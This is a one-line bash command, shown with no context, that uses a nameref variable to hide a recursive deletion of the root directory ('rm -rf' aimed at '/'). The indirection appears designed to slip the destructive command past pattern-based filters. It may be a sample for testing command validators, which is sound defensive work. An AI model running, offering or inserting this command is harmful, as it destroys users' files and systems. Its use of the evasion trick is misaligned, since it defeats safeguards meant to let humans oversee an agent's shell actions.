declare -n ref=target; target=/; rm -rf $ref
